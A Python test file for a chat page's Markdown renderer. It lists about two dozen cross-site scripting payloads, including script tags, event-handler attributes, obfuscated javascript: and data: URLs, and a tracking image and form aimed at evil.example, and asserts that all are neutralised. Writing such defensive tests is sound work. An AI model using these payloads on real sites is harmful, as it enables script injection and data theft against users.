"""Replies rendered for the chat page: Markdown becomes HTML, and nothing a reply says can
run a script, load a resource or inject markup (a model's text may be steered by anyone who
gets words into its context)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.markup import elements, unsafe_parts
from workers.adapters.local.markdown import render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracker](https://evil.example/pixel.png?c=secret)",
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)>",
    '<div style="position:fixed;inset:0">cover</div>',
    '<form action="https://evil.example"><input name=q></form>',
    "<!-- <script>alert(1)</script> -->",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[a](/v1/conversations/x) [b](//evil.example/x)",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_reply_renders_to_nothing_that_runs_or_loads(text: str) -> None:
    html = render_markdown(text)
    assert unsafe_parts(html) == [], html
    assert "<script" not in html.lower() and "<img" not in html.lower()


def test_raw_html_shows_as_text() -> None:
    assert render_markdown("<b>hi</b> <script>x()</script>") == (
        "<p>&lt;b&gt;hi&lt;/b&gt; &lt;script&gt;x()&lt;/script&gt;</p>"
    )


def test_markdown_renders() -> None:
    html = render_markdown(
        "# Title\n\n**bold**, _em_, ~~gone~~, `code`\n\n"
        "- one\n- two\n\n3. three\n\n> quoted\n\n```py\nx = 1 < 2\n```\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "[docs](https://example.com/docs) <https://example.com/auto> [mail](mailto:a@example.com)"
    )
    tags = [tag for tag, _ in elements(html)]
    for tag in ("h1", "strong", "em", "s", "code", "ul", "li", "ol", "blockquote", "pre"):
        assert tag in tags, tag
    assert {"table", "th", "td"} <= set(tags)
    assert "x = 1 &lt; 2" in html
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in links] == [
        "https://example.com/docs",
        "https://example.com/auto",
        "mailto:a@example.com",
    ]
    # a link opens in another tab, tells the site nothing of the page and is not endorsed
    assert all(a["target"] == "_blank" for a in links)
    assert all(
        set((a["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"} for a in links
    )
    assert unsafe_parts(html) == []


def test_a_relative_or_odd_link_keeps_its_text_but_leads_nowhere() -> None:
    html = render_markdown("[here](/v1/conversations/x) and [there](ftp://example.com)")
    links = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert all("href" not in a for a in links)
    assert "here" in html and "there" in html


def test_an_image_stays_a_link_and_loads_nothing() -> None:
    html = render_markdown("![a chart](https://example.com/chart.png)")
    assert [tag for tag, _ in elements(html)] == ["p", "a"]
    assert "a chart" in html


_PIECES = st.sampled_from(
    [
        "<", ">", "\"", "'", "`", "```", "[", "]", "(", ")", "!", "&", "#", ";", "=", " ", "\n",
        "javascript:", "data:", "script", "img", "onerror", "src", "href", "style", "svg",
        "alert(1)", "a", "*", "_", "|", "-", "&#x09;", "&lt;", "%0a", "\\", "/",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_arrangement_of_dangerous_pieces_gets_through(text: str) -> None:
    assert unsafe_parts(render_markdown(text)) == []
